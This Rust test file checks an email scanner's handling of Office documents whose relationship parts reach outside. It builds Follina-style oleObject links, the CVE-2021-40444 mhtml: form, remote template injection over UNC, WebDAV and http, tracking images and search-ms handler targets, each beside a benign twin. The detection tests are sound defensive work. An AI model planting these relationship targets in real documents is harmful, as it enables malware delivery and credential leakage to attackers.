//! Office Open XML documents whose relationships reach outside when they
//! open (issue 31): each hostile document has an ordinary twin that differs
//! only by where its relationship points, and each hostile one is held
//! wherever it sits (attachment, ZIP entry, attached message, TNEF,
//! Outlook `.msg`, file embedded in a PDF). Documents are built here, to
//! the letter of ECMA-376 Part 2 §9.3 (relationships); nothing fetches
//! anything.

#[path = "../examples/samples/mod.rs"]
mod samples;

use ecluse_scanner::{Action, Category, Engine, FindingKind, Limits, Report, scan};

const REL_NS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const STRICT_NS: &str = "http://purl.oclc.org/ooxml/officeDocument/relationships";

/// A relationships part with one relationship of `kind` (the last segment
/// of its type, in the transitional namespace unless `kind` is a whole URI)
/// to `target`, external.
fn rels(kind: &str, target: &str) -> String {
    let kind = if kind.contains("://") {
        kind.to_string()
    } else {
        format!("{REL_NS}/{kind}")
    };
    let target = target
        .replace('&', "&amp;")
        .replace('"', "&quot;")
        .replace('<', "&lt;");
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL_NS}/styles" Target="styles.xml"/><Relationship Id="rId9" Type="{kind}" Target="{target}" TargetMode="External"/></Relationships>"#
    )
}

/// A Word document whose part `rels_part` (a `.rels` path) is `rels_xml`,
/// beside the usual parts.
fn docx_with(rels_part: &str, rels_xml: &str) -> Vec<u8> {
    let ct = r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/><Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/></Types>"#;
    let root = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="word/document.xml"/></Relationships>"#
    );
    let doc = r#"<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Demande de subvention 2027</w:t></w:r></w:p></w:body></w:document>"#;
    let settings = r#"<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:attachedTemplate r:id="rId9"/></w:settings>"#;
    let mut entries: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", ct.as_bytes()),
        ("word/document.xml", doc.as_bytes()),
        ("word/settings.xml", settings.as_bytes()),
        ("word/styles.xml", b"<w:styles/>"),
    ];
    let root_rels = root.into_bytes();
    if rels_part != "_rels/.rels" {
        entries.push(("_rels/.rels", &root_rels));
    }
    entries.push((rels_part, rels_xml.as_bytes()));
    samples::zip(&entries)
}

/// A workbook or a presentation with one more relationships part.
fn package_with(main: &str, main_type: &str, rels_part: &str, rels_xml: &str) -> Vec<u8> {
    let ct = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/{main}" ContentType="{main_type}"/></Types>"#
    );
    let root = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="{REL_NS}/officeDocument" Target="{main}"/></Relationships>"#
    );
    samples::zip(&[
        ("[Content_Types].xml", ct.as_bytes()),
        ("_rels/.rels", root.as_bytes()),
        (main, b"<root/>"),
        (rels_part, rels_xml.as_bytes()),
    ])
}

const DOCX: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";

fn engine() -> Engine {
    Engine::builtin()
}

/// The organisation of the tests: its own domain, and a partner's.
fn own_engine() -> Engine {
    Engine::builtin().with_own_domains(&["ville-exemple.fr", "agglo-partenaire.fr"])
}

fn scan_doc(engine: &Engine, name: &str, data: &[u8]) -> Report {
    let raw = samples::with_attachment("Formulaire", DOCX, name, data);
    scan(engine, &Limits::default(), raw.as_bytes())
}

fn external(report: &Report) -> Vec<String> {
    report
        .all_findings()
        .filter(|(_, f)| f.kind == FindingKind::ExternalContent)
        .map(|(path, f)| format!("[{path}] {}", f.detail))
        .collect()
}

fn everything(report: &Report) -> String {
    report
        .all_findings()
        .map(|(p, f)| format!("    [{p}] {:?}: {}", f.kind, f.detail))
        .collect::<Vec<_>>()
        .join("\n")
}

/// One twin: a relationships part, a type, a target, and whether it is held.
struct Twin {
    what: &'static str,
    part: &'static str,
    kind: &'static str,
    target: &'static str,
    held: bool,
}

const TWINS: &[Twin] = &[
    Twin {
        what: "oleObject by URL (Follina)",
        part: "word/_rels/document.xml.rels",
        kind: "oleObject",
        target: "http://203.0.113.80/releve.htm!facture",
        held: true,
    },
    Twin {
        what: "oleObject by mhtml: (CVE-2021-40444)",
        part: "word/_rels/document.xml.rels",
        kind: "oleObject",
        target: "mhtml:https://cdn.example/x.html!x-usc:https://cdn.example/x.html",
        held: true,
    },
    Twin {
        what: "oleObject linked to a file on the office's server",
        part: "word/_rels/document.xml.rels",
        kind: "oleObject",
        target: r"\\serveur\partage\tableau.xlsx",
        held: false,
    },
    Twin {
        what: "frame by URL",
        part: "word/_rels/webSettings.xml.rels",
        kind: "frame",
        target: "https://cdn.example/cadre.htm",
        held: true,
    },
    Twin {
        what: "frame on the local disk",
        part: "word/_rels/webSettings.xml.rels",
        kind: "frame",
        target: "file:///C:/Documents/cadre.htm",
        held: false,
    },
    Twin {
        what: "template by UNC to an IP address",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: r"\\203.0.113.50\modeles\Lettre.dotm",
        held: true,
    },
    Twin {
        what: "template by UNC to the office's own server",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: r"\\serveur\modeles\Lettre.dotm",
        held: false,
    },
    Twin {
        what: "template by WebDAV",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: r"\\modeles.example@SSL\DavWWWRoot\Lettre.dotm",
        held: true,
    },
    Twin {
        what: "template on the local disk (Normal.dotm)",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: "file:///C:/Users/agent/AppData/Roaming/Microsoft/Templates/Normal.dotm",
        held: false,
    },
    Twin {
        what: "macro template by https on a stranger's host",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: "https://cdn.example/modeles/Lettre.dotm",
        held: true,
    },
    Twin {
        what: ".dotx on an organisation's SharePoint",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: "https://ville-exemple.sharepoint.com/sites/modeles/Lettre.dotx",
        held: false,
    },
    Twin {
        what: "template by plain http",
        part: "word/_rels/settings.xml.rels",
        kind: "attachedTemplate",
        target: "http://modeles.example/Lettre.dotx",
        held: true,
    },
    Twin {
        what: "subDocument by https with macros",
        part: "word/_rels/document.xml.rels",
        kind: "subDocument",
        target: "https://cdn.example/annexe.docm",
        held: true,
    },
    Twin {
        what: "subDocument by https without",
        part: "word/_rels/document.xml.rels",
        kind: "subDocument",
        target: "https://docs.example/annexe.docx",
        held: false,
    },
    Twin {
        what: "image from an IP address",
        part: "word/_rels/document.xml.rels",
        kind: "image",
        target: "https://198.51.100.7/pixel.png",
        held: true,
    },
    Twin {
        what: "image from a named host by https",
        part: "word/_rels/document.xml.rels",
        kind: "image",
        target: "https://images.example/logo.png",
        held: false,
    },
    Twin {
        what: "strict namespace template by UNC",
        part: "word/_rels/settings.xml.rels",
        kind: "http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate",
        target: r"\\203.0.113.50\m\a.dotm",
        held: true,
    },
    Twin {
        what: "hyperlink to a protocol handler",
        part: "word/_rels/document.xml.rels",
        kind: "hyperlink",
        target: "search-ms:query=facture",
        held: false,
    },
    Twin {
        what: "hyperlink to a network path",
        part: "word/_rels/document.xml.rels",
        kind: "hyperlink",
        target: r"\\203.0.113.5\partage",
        held: false,
    },
    Twin {
        what: "header image from a network path",
        part: "word/_rels/header1.xml.rels",
        kind: "image",
        target: r"\\files.example\img\logo.png",
        held: true,
    },
    Twin {
        what: "customXml reaching out by a handler",
        part: "customXml/_rels/item1.xml.rels",
        kind: "customXmlData",
        target: "search-ms:query=facture&crumb=location:\\\\203.0.113.5\\x",
        held: true,
    },
];

#[test]
fn each_relationship_is_judged_by_its_type_and_target() {
    let engine = engine();
    let mut failures = Vec::new();
    for t in TWINS {
        let doc = docx_with(t.part, &rels(t.kind, t.target));
        let report = scan_doc(&engine, "Formulaire.docx", &doc);
        let found = external(&report);
        let held = report.action >= Action::Quarantine;
        if held != t.held || found.is_empty() == t.held {
            failures.push(format!(
                "{}: want held={}, got {} {:?}\n{}",
                t.what,
                t.held,
                report.action,
                report.categories,
                everything(&report)
            ));
            continue;
        }
        if t.held {
            // The finding names the relationship type and the target.
            let kind = t.kind.rsplit('/').next().unwrap();
            let said = &found[0];
            if !said.contains(kind) || !said.contains(t.target) || !said.contains(t.part) {
                failures.push(format!(
                    "{}: the finding does not name {kind}, {} and {}: {said}",
                    t.what, t.target, t.part
                ));
            }
            if report.categories != [Category::ExternalContent] {
                failures.push(format!("{}: categories {:?}", t.what, report.categories));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

/// Any template on the tenant's own domains or on a partner's is
/// ordinary; the same template elsewhere, or for a gateway that does not
/// know these domains, is held.
#[test]
fn templates_on_the_organisations_own_hosts_are_ordinary() {
    let own = own_engine();
    for target in [
        "https://intranet.ville-exemple.fr/modeles/Lettre.dotm",
        "http://ville-exemple.fr/modeles/Lettre.dot",
        r"\\fichiers.ville-exemple.fr\modeles\Lettre.dotm",
        r"\\dav.agglo-partenaire.fr@SSL\DavWWWRoot\modeles\Lettre.dotm",
    ] {
        let doc = docx_with(
            "word/_rels/settings.xml.rels",
            &rels("attachedTemplate", target),
        );
        let report = scan_doc(&own, "Lettre.docx", &doc);
        assert_eq!(
            report.action,
            Action::Deliver,
            "{target}\n{}",
            everything(&report)
        );
        let stranger = scan_doc(&engine(), "Lettre.docx", &doc);
        assert!(
            stranger.categories.contains(&Category::ExternalContent),
            "{target} without the organisation's domains\n{}",
            everything(&stranger)
        );
    }
    // A name that only ends like the domain, or carries it inside, is not it.
    for target in [
        "https://ville-exemple.fr.cdn.example/Lettre.dotm",
        "https://faussevilleexemple.fr/Lettre.dotm",
        r"\\ville-exemple.fr.example\m\Lettre.dotm",
    ] {
        let doc = docx_with(
            "word/_rels/settings.xml.rels",
            &rels("attachedTemplate", target),
        );
        let report = scan_doc(&own, "Lettre.docx", &doc);
        assert!(
            report.categories.contains(&Category::ExternalContent),
            "{target}"
        );
    }
    // A loaded object is held even on the organisation's own web server.
    let doc = docx_with(
        "word/_rels/document.xml.rels",
        &rels("oleObject", "https://intranet.ville-exemple.fr/x.htm!"),
    );
    assert!(
        scan_doc(&own, "a.docx", &doc)
            .categories
            .contains(&Category::ExternalContent)
    );
}

/// Every relationships part of every kind of package is read: workbooks,
/// presentations, the package's own `_rels/.rels`.
#[test]
fn every_relationships_part_of_every_package_is_read() {
    let sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    let show = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml";
    let cases: Vec<(&str, &str, Vec<u8>)> = vec![
        (
            "budget.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            package_with(
                "xl/workbook.xml",
                sheet,
                "xl/worksheets/_rels/sheet1.xml.rels",
                &rels("oleObject", "http://203.0.113.9/a.htm!"),
            ),
        ),
        (
            "budget.xlsx",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            package_with(
                "xl/workbook.xml",
                sheet,
                "xl/externalLinks/_rels/externalLink1.xml.rels",
                &rels("externalLinkPath", "file://files.example/budget/2026.xlsx"),
            ),
        ),
        (
            "conseil.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            package_with(
                "ppt/presentation.xml",
                show,
                "ppt/slides/_rels/slide1.xml.rels",
                &rels("oleObject", "https://cdn.example/x.html!"),
            ),
        ),
        (
            "conseil.pptx",
            "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            package_with(
                "ppt/presentation.xml",
                show,
                "ppt/slideMasters/_rels/slideMaster1.xml.rels",
                &rels("image", r"\\203.0.113.5\i\fond.png"),
            ),
        ),
        (
            "Formulaire.docx",
            DOCX,
            docx_with(
                "_rels/.rels",
                &rels(
                    &format!("{STRICT_NS}/oleObject"),
                    "http://203.0.113.80/x.htm!",
                ),
            ),
        ),
    ];
    for (name, ctype, data) in cases {
        let raw = samples::with_attachment("Document", ctype, name, &data);
        let report = scan(&engine(), &Limits::default(), raw.as_bytes());
        assert!(
            report.categories.contains(&Category::ExternalContent),
            "{name}\n{}",
            everything(&report)
        );
    }
    // The same packages with their relationship pointing inside: delivered.
    let inside = docx_with(
        "word/_rels/document.xml.rels",
        &rels("image", "https://images.example/logo.png").replace(" TargetMode=\"External\"", ""),
    );
    let report = scan_doc(&engine(), "Formulaire.docx", &inside);
    assert_eq!(report.action, Action::Deliver, "{}", everything(&report));
}

/// A relationships part that is not XML Office can read is held (Word
/// repairs such packages and may follow what it recovers); a relationship
/// spelled with character references, or in UTF-16, is still read.
#[test]
fn relationships_are_read_as_xml_not_as_bytes() {
    let broken = rels("oleObject", "http://203.0.113.80/x.htm!").replace("</Relationships>", "");
    let report = scan_doc(
        &engine(),
        "a.docx",
        &docx_with("word/_rels/document.xml.rels", &broken),
    );
    assert!(
        report.action >= Action::Quarantine,
        "{}",
        everything(&report)
    );
    let escaped = rels("attachedTemplate", "x").replace(
        "Target=\"x\"",
        "Target=\"&#x5C;&#x5C;203.0.113.50&#64;SSL&#92;DavWWWRoot&#92;m.dotm\"",
    );
    let report = scan_doc(
        &engine(),
        "a.docx",
        &docx_with("word/_rels/settings.xml.rels", &escaped),
    );
    assert!(
        report.categories.contains(&Category::ExternalContent),
        "{}",
        everything(&report)
    );
    let mut utf16 = vec![0xff, 0xfe];
    for u in rels("oleObject", "http://203.0.113.80/x.htm!")
        .replace("UTF-8", "UTF-16")
        .encode_utf16()
    {
        utf16.extend_from_slice(&u.to_le_bytes());
    }
    let doc = docx_with("word/_rels/document.xml.rels", "");
    // Rebuild with the UTF-16 bytes as the part.
    let doc = {
        let mut entries = Vec::new();
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(&doc)).unwrap();
        for i in 0..zip.len() {
            let mut f = zip.by_index(i).unwrap();
            let mut bytes = Vec::new();
            std::io::Read::read_to_end(&mut f, &mut bytes).unwrap();
            entries.push((String::from_utf8_lossy(f.name_raw()).into_owned(), bytes));
        }
        let entries: Vec<(&str, &[u8])> = entries
            .iter()
            .map(|(n, b)| {
                (
                    n.as_str(),
                    if n.ends_with("document.xml.rels") {
                        &utf16[..]
                    } else {
                        &b[..]
                    },
                )
            })
            .collect();
        samples::zip(&entries)
    };
    let report = scan_doc(&engine(), "a.docx", &doc);
    assert!(
        report.categories.contains(&Category::ExternalContent),
        "{}",
        everything(&report)
    );
    // A relationship quoted in a comment is no relationship.
    let quoted = format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><!-- {} --></Relationships>",
        r#"<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="http://203.0.113.80/x.htm!" TargetMode="External"/>"#
    );
    let report = scan_doc(
        &engine(),
        "a.docx",
        &docx_with("word/_rels/document.xml.rels", &quoted),
    );
    assert_eq!(report.action, Action::Deliver, "{}", everything(&report));
}

/// An Outlook message with one attachment (MAPI property streams).
fn msg(attachment_name: &str, data: &[u8]) -> Vec<u8> {
    let utf16 = |s: &str| -> Vec<u8> { s.encode_utf16().flat_map(|u| u.to_le_bytes()).collect() };
    samples::ole(
        None,
        &[
            ("/__properties_version1.0", &[0u8; 32]),
            ("/__substg1.0_0037001F", &utf16("Formulaire")),
            (
                "/__substg1.0_1000001F",
                &utf16("Bonjour, voici le formulaire."),
            ),
            (
                "/__attach_version1.0_#00000000/__properties_version1.0",
                &[0u8; 8],
            ),
            (
                "/__attach_version1.0_#00000000/__substg1.0_3707001F",
                &utf16(attachment_name),
            ),
            ("/__attach_version1.0_#00000000/__substg1.0_37010102", data),
        ],
    )
}

/// The Follina document and its twin, wherever they sit.
#[test]
fn the_walk_applies_wherever_the_document_sits() {
    let hostile = docx_with(
        "word/_rels/document.xml.rels",
        &rels("oleObject", "http://203.0.113.80/releve.htm!facture"),
    );
    let ordinary = docx_with(
        "word/_rels/document.xml.rels",
        &rels("oleObject", r"\\serveur\partage\tableau.xlsx"),
    );
    let places: Vec<(&str, Box<dyn Fn(&[u8]) -> String>)> = vec![
        (
            "attachment",
            Box::new(|d| samples::with_attachment("Relevé", DOCX, "Releve.docx", d)),
        ),
        (
            "ZIP entry",
            Box::new(|d| {
                samples::with_attachment(
                    "Relevé",
                    "application/zip",
                    "releve.zip",
                    &samples::zip(&[("dossier/Releve.docx", d)]),
                )
            }),
        ),
        (
            "attached message",
            Box::new(|d| {
                // Its own boundary: one that overlaps the enclosing one is a
                // finding of its own.
                let inner = samples::with_attachment("Relevé", DOCX, "Releve.docx", d)
                    .replace("=_ecluse_boundary_1", "=_ecluse_inner_1");
                samples::with_attachment(
                    "Tr: Relevé",
                    "message/rfc822",
                    "releve.eml",
                    inner.as_bytes(),
                )
            }),
        ),
        (
            "TNEF",
            Box::new(|d| {
                samples::with_attachment(
                    "Relevé",
                    "application/ms-tnef",
                    "winmail.dat",
                    &samples::tnef(&[("Releve.docx", d)]),
                )
            }),
        ),
        (
            "Outlook .msg",
            Box::new(|d| {
                samples::with_attachment(
                    "Relevé",
                    "application/vnd.ms-outlook",
                    "releve.msg",
                    &msg("Releve.docx", d),
                )
            }),
        ),
        (
            "PDF attachment",
            Box::new(|d| {
                samples::with_attachment(
                    "Relevé",
                    "application/pdf",
                    "releve.pdf",
                    &samples::pdf_with_embedded("Releve.docx", d),
                )
            }),
        ),
    ];
    for (place, wrap) in &places {
        let report = scan(&engine(), &Limits::default(), wrap(&hostile).as_bytes());
        assert!(
            report.action >= Action::Quarantine
                && report.categories.contains(&Category::ExternalContent),
            "{place}: {} {:?}\n{}",
            report.action,
            report.categories,
            everything(&report)
        );
        let report = scan(&engine(), &Limits::default(), wrap(&ordinary).as_bytes());
        assert!(
            report.action == Action::Deliver,
            "{place}, ordinary twin: {:?}\n{}",
            report.categories,
            everything(&report)
        );
    }
}

/// External content is released by an admin only: the policy refuses to
/// let agents release it alone.
#[test]
fn external_content_is_never_agent_releasable() {
    let err = ecluse_scanner::Policy::from_toml("self_release = [\"external_content\"]", "p")
        .unwrap_err()
        .to_string();
    assert!(err.contains("external_content"), "{err}");
    assert!(
        !Engine::builtin()
            .policy()
            .self_release(Category::ExternalContent)
    );
}

/// Many external relationships: a bounded number of findings, and a
/// bounded time.
#[test]
fn many_relationships_stay_bounded() {
    let mut xml = String::from(
        r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">"#,
    );
    for i in 0..20_000 {
        xml.push_str(&format!(
            r#"<Relationship Id="rId{i}" Type="{REL_NS}/oleObject" Target="http://203.0.113.{}/x{i}.htm!" TargetMode="External"/>"#,
            i % 250
        ));
    }
    xml.push_str("</Relationships>");
    let started = std::time::Instant::now();
    let report = scan_doc(
        &engine(),
        "a.docx",
        &docx_with("word/_rels/document.xml.rels", &xml),
    );
    assert!(started.elapsed() < std::time::Duration::from_secs(20));
    let n = external(&report).len();
    assert!((1..=10).contains(&n), "{n} findings");
}
